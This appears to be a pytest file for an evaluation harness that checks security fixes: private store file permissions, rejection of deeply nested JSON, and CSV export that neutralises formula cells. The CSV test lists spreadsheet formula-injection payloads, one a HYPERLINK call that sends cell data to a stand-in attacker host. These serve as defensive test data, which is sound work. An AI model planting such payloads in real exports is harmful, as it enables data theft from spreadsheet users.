"""Smaller holes: CSV formula cells, JSON nested too deeply, the store file's mode."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from evalharness.cli import app
from evalharness.errors import InputError
from evalharness.judge.verdict import InvalidVerdict, VerdictParser
from evalharness.store import Store
from evalharness.suites import load_suite


def test_store_file_and_its_log_are_private(tmp_path: Path) -> None:
    previous = os.umask(0o022)  # a usual umask: new files would be readable by everyone
    try:
        store = Store(tmp_path / "results.duckdb")
        with store.transaction() as con:
            con.execute("INSERT INTO reviewers (name, role, password_hash) VALUES ('a', 'admin', 'scrypt$x')")
            wal = store.path.with_name(store.path.name + ".wal")
            assert not wal.exists() or stat.S_IMODE(wal.stat().st_mode) == 0o600
        assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
        assert os.umask(0o022) == 0o022  # restored for the rest of the process
    finally:
        os.umask(previous)


def test_a_store_made_with_open_permissions_is_closed_on_next_use(tmp_path: Path) -> None:
    store = Store(tmp_path / "results.duckdb")
    store.query("SELECT 1")
    store.path.chmod(0o644)
    store.query("SELECT 1")
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600


def test_deeply_nested_jsonl_line_is_a_clean_error(tmp_path: Path) -> None:
    folder = tmp_path / "suite"
    folder.mkdir()
    (folder / "suite.toml").write_text('name = "deep"\nversion = "1"\nkind = "dictionary_qa"\ndescription = "d"\n'
                                       'license = "l"\n[provenance]\nsource = "s"\n', encoding="utf-8")
    deep = "[" * 200_000 + "]" * 200_000
    (folder / "items.jsonl").write_text('{"id": "a", "prompt": "p", "reference": "r"}\n' + deep + "\n",
                                        encoding="utf-8")
    with pytest.raises(InputError, match="nested too deeply") as err:
        load_suite(folder)
    assert "items.jsonl:2" in str(err.value)
    result = CliRunner().invoke(app, ["suites", "validate", str(folder)])
    assert result.exit_code == 2 and "nested too deeply" in result.output


def test_deeply_nested_verdict_is_an_invalid_verdict() -> None:
    from evalharness.judge.rubric import load_rubric

    parser = VerdictParser(load_rubric(Path(__file__).resolve().parents[2] / "rubrics" / "cultural_authenticity.toml"))
    with pytest.raises(InvalidVerdict, match="nested too deeply"):
        parser.parse("[" * 200_000 + "]" * 200_000)


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    """An answer a spreadsheet would run (=HYPERLINK(…) sending cells away) is written as text."""
    from tests.helpers import write_replay, write_suite

    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain"]
    rows = [{"id": f"q{i}", "prompt": f"p{i}", "reference": "r", "direction": "en-sto"} for i in range(len(hostile))]
    suite = write_suite(tmp_path / "suites" / "s", rows, name="s", uses=("evaluation",))
    replay = write_replay(tmp_path / "ck", {f"q{i}": text for i, text in enumerate(hostile)})
    db = str(tmp_path / "r.duckdb")
    runner = CliRunner()
    listed = runner.invoke(app, ["run", "-c", str(replay), "-s", str(suite), "--db", db, "--json"])
    assert listed.exit_code == 0, listed.output
    import json

    run_id = json.loads(listed.output)[0]["run_id"] if listed.output.strip().startswith("[") else None
    if run_id is None:
        run_id = Store(db).query("SELECT run_id FROM runs")[0][0]
    out = tmp_path / "scores.csv"
    assert runner.invoke(app, ["runs", "export", run_id, "-o", str(out), "--db", db]).exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        answers = {row["answer"] for row in csv.DictReader(fh)} - {""}
    assert answers == {"'" + h for h in hostile[:-1]} | {"plain"}
